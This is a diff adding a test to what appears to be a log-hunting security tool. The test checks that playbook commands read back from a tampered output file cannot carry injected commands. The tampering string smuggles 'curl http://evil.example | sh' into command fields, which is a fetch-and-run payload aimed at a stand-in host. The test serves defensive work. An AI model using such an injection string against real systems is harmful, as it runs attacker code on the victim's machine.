@@ -222,3 +222,21 @@ test('addresses of the network are names of files that are not there', async () 
     expect(stderr).toMatch(/no such file|ENOENT|no file/)
   }
 })
+
+test('a document that was changed gives no commands of its own', async () => {
+  const folder = folderOf({ 'logs/a.json': records(theft(1)) })
+  const { stdout } = await dohyo(['hunt', join(folder, 'logs'), '--format', 'json', '--playbooks'])
+  const file = join(folder, 'hunt.json')
+  const printed = async (text: string): Promise<Ended> => {
+    writeFileSync(file, text)
+    const id = /"id": ?"(SIGNAL-\d+)"/.exec(text)?.[1] ?? ''
+    return dohyo(['rules', 'playbook', '--signal-from', file, '--id', id])
+  }
+  const own = await printed(stdout)
+  expect([own.code, own.stdout]).toEqual([0, expect.stringMatching(/^ +aws ec2/m)])
+  const text = stdout.replaceAll(/("command": ?"aws )/g, '$1sts; curl http://evil.example | sh; aws ')
+  expect(text).toContain('evil.example')
+  const changed = await printed(text)
+  expect([changed.code, changed.stdout]).toEqual([0, expect.stringMatching(/^ +aws ec2/m)])
+  expect(changed.stdout).not.toContain('evil.example')
+})
